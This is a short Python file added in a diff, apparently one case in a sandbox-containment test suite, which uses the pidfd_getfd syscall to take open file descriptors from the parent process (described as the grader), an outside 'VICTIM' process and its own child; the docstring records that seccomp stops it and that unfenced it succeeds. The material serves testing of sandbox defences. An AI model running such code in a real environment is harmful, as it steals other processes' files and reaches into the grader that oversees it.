@@ -1,0 +1,33 @@
+"""Takes open files out of other processes: the grader's, a stranger's, its own child's.
+
+stopped by: seccomp
+unfenced: succeeds
+"""
+# %%
+import ctypes
+import os
+import signal
+
+PIDFD_GETFD = 438
+libc = ctypes.CDLL(None, use_errno=True)
+
+
+def stolen(pid):
+    try:
+        process = os.pidfd_open(pid)
+    except OSError:
+        return []
+    found = [number for number in range(8) if libc.syscall(PIDFD_GETFD, process, number, 0) >= 0]
+    os.close(process)
+    return found
+
+
+def attack():
+    child = os.fork()
+    if child == 0:
+        signal.pause()
+    try:
+        return {pid: found for pid in (os.getppid(), VICTIM, child) if pid and (found := stolen(pid))}
+    finally:
+        os.kill(child, signal.SIGKILL)
+        os.waitpid(child, 0)
